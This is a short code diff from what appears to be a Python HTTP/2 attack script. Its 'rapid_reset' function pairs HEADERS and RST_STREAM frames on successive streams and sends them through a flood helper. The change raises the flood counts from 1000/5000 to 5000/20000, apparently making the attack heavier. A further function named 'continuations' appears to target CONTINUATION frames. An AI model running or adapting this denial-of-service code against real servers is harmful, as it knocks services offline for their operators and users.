@@ -129,7 +129,7 @@ def rapid_reset(t):
     def pair(number):
         stream = 2 * number + 1
         return frame(HEADERS, 5, stream, request) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
-    return flood(t, pair, 1000, 5000)
+    return flood(t, pair, 5000, 20000)
 
 
 def continuations(t):
